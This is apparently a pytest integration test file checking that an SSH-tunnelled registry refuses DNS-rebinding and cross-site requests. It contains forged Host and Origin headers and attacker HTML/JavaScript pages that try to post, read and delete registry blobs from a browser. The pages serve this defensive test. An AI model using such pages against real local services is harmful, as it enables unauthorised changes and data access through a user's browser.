"""Web pages cannot act through a user's tunnel (issue 12, section 1).

An open `ssh -L` port answers the user's browser too. Through a real `sshreg serve` and a
real tunnel: requests whose `Host` does not name the loopback (DNS rebinding), and requests
carrying a foreign `Origin` or a cross-site `Sec-Fetch-Site` (cross-site "simple" requests),
are refused with `403 DENIED`, logged once with the key, and store nothing; what registry
clients send still works. Then Debian's chromium plays the attacker's pages for real.
"""

from __future__ import annotations

import hashlib
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.browser import AttackSite, chromium
from tests.support.hashing import sha256
from tests.support.rawhttp import Connection, Response, request
from tests.support.sshreg_server import (
    ClientKey,
    S3Store,
    SshregServer,
    Tunnel,
    free_port,
    wait_for,
)

pytestmark = pytest.mark.integration

CONFIGURED_HOST = "registry.internal"
REFUSED = "refused {method} {path} for key {key}: DENIED: request from a web page refused"
# A 1x1 GIF: an <img> of a blob only loads if the registry served it to the page.
GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c000000000100"
                    "01000002024401003b")
BROWSER_TIMEOUT = 90.0
UPLOADS = "/v2/team/app/blobs/uploads/"


@pytest.fixture(scope="module")
def key(tmp_path_factory) -> ClientKey:
    return ClientKey.generate(tmp_path_factory.mktemp("web-keys"), "alice")


@pytest.fixture(scope="module")
def server(tmp_path_factory, key) -> Iterator[SshregServer]:
    srv = SshregServer(tmp_path_factory.mktemp("web"), metrics=True,
                       config={"registry": {"hosts": [CONFIGURED_HOST]}})
    srv.authorize(key.line())
    srv.start()
    yield srv
    srv.stop()


@pytest.fixture(scope="module")
def tunnel(server, key) -> Iterator[Tunnel]:
    with server.tunnel(key) as opened:
        yield opened


def stored_files(server: SshregServer) -> dict[str, int]:
    """Every file of the filesystem store (path -> size), temporary ones included."""
    root = Path(server.storage)
    return {str(p.relative_to(root)): p.stat().st_size for p in root.rglob("*") if p.is_file()}


def assert_refused(response: Response) -> None:
    assert response.status == 403, (response.status, response.body)
    assert response.error_code == "DENIED"
    assert response.header("content-type", "").startswith("application/json")
    assert not [h for h in response.headers if h.startswith("access-control-")]


def refusal_lines(server: SshregServer, key: ClientKey, method: str, path: str) -> list[str]:
    line = REFUSED.format(method=method, path=path, key=key.fingerprint)
    return [entry for entry in server.log().splitlines() if line in entry]


def logged_refusals(server: SshregServer, key: ClientKey, method: str, path: str,
                    count: int) -> list[str]:
    """The refusal lines of METHOD PATH for the key, once there are `count` of them."""
    wait_for(lambda: len(refusal_lines(server, key, method, path)) >= count, 10,
             f"{count} refusal(s) of {method} {path} in the log")
    return refusal_lines(server, key, method, path)


# -- Host: DNS rebinding ------------------------------------------------------------------


@pytest.mark.parametrize("host", [
    "evil.example.com:5000", "127.0.0.1.evil.com", "localhost.evil.com", "", "10.0.0.1",
    "0.0.0.0:5000", "[::2]:5000", "127.1", "localhost:5000:5000",
])
def test_a_host_not_naming_the_loopback_is_refused_and_logged_with_the_key(
        server, key, tunnel, host):
    path = f"/v2/probe-{hashlib.sha256(host.encode()).hexdigest()[:12]}/tags/list"
    response = request(tunnel.port, "GET", path, headers={"Host": host})
    assert_refused(response)
    assert response.json()["errors"][0]["detail"] == {"host": host}
    lines = logged_refusals(server, key, "GET", path, 1)
    assert len(lines) == 1, lines
    assert f"Host does not name the loopback ({{'host': {host!r}}})" in lines[0]


@pytest.mark.parametrize("method, path", [
    ("GET", "/v2/"), ("HEAD", "/v2/"), ("GET", "/nowhere"), ("GET", "/v2/_catalog"),
    ("DELETE", "/v2/team/app/manifests/latest"), ("PATCH", "/v2/team/app/blobs/uploads/x"),
])
def test_the_host_check_covers_every_route_and_method(tunnel, method, path):
    response = request(tunnel.port, method, path, headers={"Host": "evil.example.com"})
    assert response.status == 403
    if method != "HEAD":
        assert response.error_code == "DENIED"


def test_a_forged_host_is_logged_escaped(server, key, tunnel):
    host = "evil.example\t\x9b2J:5000"  # TAB and a C1 control (CSI, in UTF-8) pass HTTP
    response = request(tunnel.port, "GET", "/v2/escaped/tags/list", headers={"Host": host})
    assert_refused(response)
    [line] = logged_refusals(server, key, "GET", "/v2/escaped/tags/list", 1)
    assert "'evil.example\\t\\x9b2J:5000'" in line
    assert "\t" not in line and "\x9b" not in line


def test_a_request_without_host_is_refused(server, key, tunnel):
    with Connection(tunnel.port) as conn:
        conn.sock.sendall(b"GET /v2/no-host/tags/list HTTP/1.0\r\n\r\n")
        response = conn.read_response()
    assert_refused(response)
    assert len(logged_refusals(server, key, "GET", "/v2/no-host/tags/list", 1)) == 1


@pytest.mark.parametrize("host", [
    "localhost:{port}", "LocalHost:{port}", "localhost", "localhost.:{port}",
    "127.0.0.1:{port}", "127.0.0.5", "127.255.255.254:{port}", "[::1]:{port}", "[::1]",
    CONFIGURED_HOST + ":{port}", CONFIGURED_HOST.upper(),
])
def test_loopback_and_configured_hosts_are_served(tunnel, host):
    response = request(tunnel.port, "GET", "/v2/", headers={"Host": host.format(port=tunnel.port)})
    assert (response.status, response.json()) == (200, {})


# -- Origin and Sec-Fetch-Site: cross-site requests ----------------------------------------


@pytest.mark.parametrize("headers", [
    {"Origin": "http://evil.example"},
    {"Origin": "null"},
    {"Origin": "http://127.0.0.1:1"},  # same host, another port: another origin
    {"Origin": "https://localhost:{port}"},
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
    {"Origin": "http://localhost:{port}", "Sec-Fetch-Site": "same-site"},
], ids=lambda h: ",".join(f"{k}={v}" for k, v in h.items()))
def test_a_cross_site_request_is_refused_and_logged_with_the_key(server, key, tunnel, headers):
    path = f"/v2/cross-{hashlib.sha256(repr(headers).encode()).hexdigest()[:12]}/tags/list"
    sent = {"Host": f"localhost:{tunnel.port}",
            **{k: v.format(port=tunnel.port) for k, v in headers.items()}}
    assert_refused(request(tunnel.port, "GET", path, headers=sent))
    assert len(logged_refusals(server, key, "GET", path, 1)) == 1


@pytest.mark.parametrize("headers", [
    {"Origin": "http://localhost:{port}"},
    {"Origin": "http://127.0.0.1:{port}", "Host": "127.0.0.1:{port}"},
    {"Sec-Fetch-Site": "same-origin"},
    {"Sec-Fetch-Site": "none"},
], ids=lambda h: ",".join(f"{k}={v}" for k, v in h.items()))
def test_the_registrys_own_origin_is_served(tunnel, headers):
    sent = {"Host": "localhost:{port}", **headers}
    response = request(tunnel.port, "GET", "/v2/",
                       headers={k: v.format(port=tunnel.port) for k, v in sent.items()})
    assert response.status == 200


def test_the_cross_site_post_from_the_issue_stores_nothing(server, key, tunnel):
    data = b"written by a web page"
    digest = sha256(data)
    before = stored_files(server)
    logged = len(refusal_lines(server, key, "POST", UPLOADS))
    response = request(tunnel.port, "POST", f"/v2/team/app/blobs/uploads/?digest={digest}",
                       data, headers={"Content-Type": "text/plain",
                                      "Origin": "http://evil.example"})
    assert_refused(response)
    assert request(tunnel.port, "HEAD", f"/v2/team/app/blobs/{digest}").status == 404
    assert stored_files(server) == before
    assert len(logged_refusals(server, key, "POST", UPLOADS, logged + 1)) == logged + 1


def test_no_cors_preflight_is_ever_granted(tunnel):
    preflight = {"Host": f"localhost:{tunnel.port}", "Origin": "http://evil.example",
                 "Access-Control-Request-Method": "DELETE",
                 "Access-Control-Request-Headers": "content-type"}
    for path in ("/v2/", "/v2/team/app/blobs/uploads/", "/v2/_catalog", "/nowhere"):
        assert_refused(request(tunnel.port, "OPTIONS", path, headers=preflight))
    # Without Origin (not a preflight), OPTIONS is no route, and grants nothing either.
    plain = request(tunnel.port, "OPTIONS", "/v2/")
    assert plain.status >= 400
    assert not [h for h in plain.headers if h.startswith("access-control-")]


def test_the_metrics_listener_refuses_a_rebound_host(server):
    port = server.metrics_port
    assert port is not None
    for path in ("/metrics", "/health"):
        assert_refused(request(port, "GET", path, headers={"Host": f"evil.example:{port}"}))
        assert request(port, "GET", path, headers={"Host": f"127.0.0.1:{port}"}).status == 200
    server.wait_for_log("refused GET /health on the metrics listener")


def test_the_cross_site_post_stores_nothing_on_s3(tmp_path, key, s3_server):
    store = S3Store.fresh(s3_server, "web")
    srv = SshregServer(tmp_path, store.url, env=store.env)
    srv.authorize(key.line())
    srv.start()
    try:
        data = os.urandom(64 << 10)
        digest = sha256(data)
        with srv.tunnel(key) as opened:
            before = store.objects()
            response = request(opened.port, "POST",
                               f"/v2/team/app/blobs/uploads/?digest={digest}", data,
                               headers={"Content-Type": "text/plain",
                                        "Origin": "http://evil.example"})
            assert_refused(response)
            assert request(opened.port, "HEAD", f"/v2/team/app/blobs/{digest}").status == 404
            assert store.objects() == before
            assert store.multipart_uploads() == []
        srv.wait_for_log(f"refused POST /v2/team/app/blobs/uploads/ for key {key.fingerprint}")
    finally:
        srv.stop()


# -- a real browser ---------------------------------------------------------------------------

# Each attempt reports what the page could see; a timeout keeps one stuck attempt from
# holding back the report.
_ATTEMPT = """
const results = {};
async function attempt(name, run) {
  const timeout = new Promise(resolve => setTimeout(() => resolve("timeout"), 15000));
  try { results[name] = await Promise.race([run(), timeout]); }
  catch (error) { results[name] = "error: " + error.name; }
}
async function status(response) {
  return response.type === "opaque" ? "opaque" : response.status + " " + await response.text();
}
function report(name) {
  return fetch(REPORT + "?name=" + name, {method: "POST", mode: "no-cors",
                                          body: JSON.stringify(results)});
}
"""

CROSS_SITE_PAGE = """<!doctype html><html><body>
<iframe name="sink"></iframe>
<form id="form" method="POST" enctype="text/plain" target="sink"
      action="TUNNEL/v2/team/app/blobs/uploads/?digest=FORM_DIGEST">
  <input type="hidden" name="a" value="b"></form>
<script>
const REPORT = "SITE/report";
ATTEMPT
(async () => {
  await attempt("no-cors POST", async () => status(await fetch(
    "TUNNEL/v2/team/app/blobs/uploads/?digest=FETCH_DIGEST",
    {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
     body: "FETCH_BODY"})));
  await attempt("cors GET catalog", async () => status(await fetch("TUNNEL/v2/_catalog")));
  await attempt("cors DELETE", async () => status(await fetch(
    "TUNNEL/v2/team/app/blobs/VICTIM", {method: "DELETE"})));
  await attempt("img GET blob", () => new Promise(resolve => {
    const img = new Image();
    img.onload = () => resolve("loaded " + img.naturalWidth + "x" + img.naturalHeight);
    img.onerror = () => resolve("error");
    img.src = "TUNNEL/v2/team/app/blobs/GIF_DIGEST";
  }));
  await attempt("form POST", () => new Promise(resolve => {
    document.querySelector("iframe").onload = () => resolve("submitted");
    document.getElementById("form").submit();
  }));
  await report("cross-site");
})();
</script></body></html>"""

# Served as http://evil.test:PORT/ (the tunnel's port): once evil.test resolves to 127.0.0.1
# the page is same-origin with the tunnel and may read every answer.
REBOUND_PAGE = """<!doctype html><html><body><script>
const REPORT = "SITE/report";
ATTEMPT
(async () => {
  await attempt("GET catalog", async () => status(await fetch("/v2/_catalog")));
  await attempt("POST blob", async () => status(await fetch(
    "/v2/team/app/blobs/uploads/?digest=FETCH_DIGEST",
    {method: "POST", headers: {"Content-Type": "application/octet-stream"},
     body: "FETCH_BODY"})));
  await attempt("DELETE blob", async () => status(await fetch(
    "/v2/team/app/blobs/VICTIM", {method: "DELETE"})));
  await report("rebound");
})();
</script></body></html>"""


def _page(template: str, **values: str) -> str:
    page = template.replace("ATTEMPT", _ATTEMPT)
    for name, value in values.items():
        page = page.replace(name, value)
    return page


@pytest.fixture
def victim(tunnel) -> dict[str, str]:
    """Blobs the key can reach in team/app: a GIF (for <img>) and one a page tries to delete."""
    victim = os.urandom(1000)
    with Connection(tunnel.port) as conn:
        for data in (GIF, victim):
            response = conn.request("POST", f"/v2/team/app/blobs/uploads/?digest={sha256(data)}",
                                    data)
            assert response.status == 201, response.body
    return {"GIF_DIGEST": sha256(GIF), "VICTIM": sha256(victim)}


def _run_page(site: AttackSite, url: str, workdir: Path, name: str,
              host_rules: str = "") -> dict[str, str]:
    with chromium(url, workdir, host_rules):
        wait_for(lambda: name in site.reports, BROWSER_TIMEOUT, f"the {name} page's report")
    return site.reports[name]


def test_a_cross_site_page_in_chromium_cannot_act_through_the_tunnel(
        server, key, tunnel, victim, tmp_path):
    fetch_body = "pushed by a cross-site fetch"
    form_body = b"a=b\r\n"  # what chromium sends for the form (enctype text/plain)
    site_port = free_port()
    site_origin = f"http://127.0.0.2:{site_port}"
    page = _page(CROSS_SITE_PAGE, TUNNEL=tunnel.url, SITE=site_origin,
                 FETCH_DIGEST=sha256(fetch_body.encode()), FETCH_BODY=fetch_body,
                 FORM_DIGEST=sha256(form_body), **victim)
    before = stored_files(server)
    logged = {(method, path): len(refusal_lines(server, key, method, path)) for method, path in [
        ("POST", UPLOADS), ("GET", "/v2/_catalog"),
        ("OPTIONS", f"/v2/team/app/blobs/{victim['VICTIM']}"),
        ("GET", f"/v2/team/app/blobs/{victim['GIF_DIGEST']}")]}
    with AttackSite("127.0.0.2", site_port, {"/": page}) as site:
        seen = _run_page(site, site_origin + "/", tmp_path, "cross-site")
    assert stored_files(server) == before
    with Connection(tunnel.port) as conn:
        for data in (fetch_body.encode(), form_body):
            assert conn.request("HEAD", f"/v2/team/app/blobs/{sha256(data)}").status == 404
        assert conn.request("HEAD", f"/v2/team/app/blobs/{victim['VICTIM']}").status == 200
    assert seen == {
        "no-cors POST": "opaque",  # sent, answer hidden: only the server can tell
        "cors GET catalog": "error: TypeError",  # no Access-Control-Allow-Origin
        "cors DELETE": "error: TypeError",  # its preflight is refused: DELETE never sent
        "img GET blob": "error",  # 403: the blob is not served to the page
        "form POST": "submitted",
    }, seen
    # The no-cors fetch and the form each POSTed once; the others were each sent once.
    expected = {sent: count + (2 if sent[0] == "POST" else 1) for sent, count in logged.items()}
    for (method, path), count in expected.items():
        assert len(logged_refusals(server, key, method, path, count)) == count, (method, path)
    assert not refusal_lines(server, key, "DELETE", f"/v2/team/app/blobs/{victim['VICTIM']}")


def test_a_dns_rebound_page_in_chromium_is_refused_by_its_host(
        server, key, tunnel, victim, tmp_path):
    fetch_body = "pushed by a rebound page"
    rebound = f"evil.test:{tunnel.port}"
    site_origin = f"http://127.0.0.2:{tunnel.port}"  # same port as the tunnel, other address
    page = _page(REBOUND_PAGE, SITE=site_origin, FETCH_DIGEST=sha256(fetch_body.encode()),
                 FETCH_BODY=fetch_body, **victim)
    before = stored_files(server)
    with AttackSite("127.0.0.2", tunnel.port, {"/": page},
                    rebind_to=("127.0.0.1", tunnel.port)) as site:
        seen = _run_page(site, f"http://{rebound}/", tmp_path, "rebound",
                         host_rules="MAP evil.test 127.0.0.2")
        assert site.relayed >= 1
    assert stored_files(server) == before
    with Connection(tunnel.port) as conn:
        assert conn.request("HEAD", f"/v2/team/app/blobs/{victim['VICTIM']}").status == 200
        assert conn.request("HEAD",
                            f"/v2/team/app/blobs/{sha256(fetch_body.encode())}").status == 404
    denied = "request from a web page refused: Host does not name the loopback"
    assert {name: answer.split(" ", 1)[0] for name, answer in seen.items()} == {
        "GET catalog": "403", "POST blob": "403", "DELETE blob": "403"}, seen
    assert all(denied in answer and "team/app" not in answer for answer in seen.values()), seen
    for method, path in [("GET", "/v2/_catalog"), ("POST", UPLOADS),
                         ("DELETE", f"/v2/team/app/blobs/{victim['VICTIM']}")]:
        wait_for(lambda m=method, p=path: [line for line in refusal_lines(server, key, m, p)
                                           if repr(rebound) in line], 10,
                 f"the refusal of {method} {path} naming {rebound} in the log")
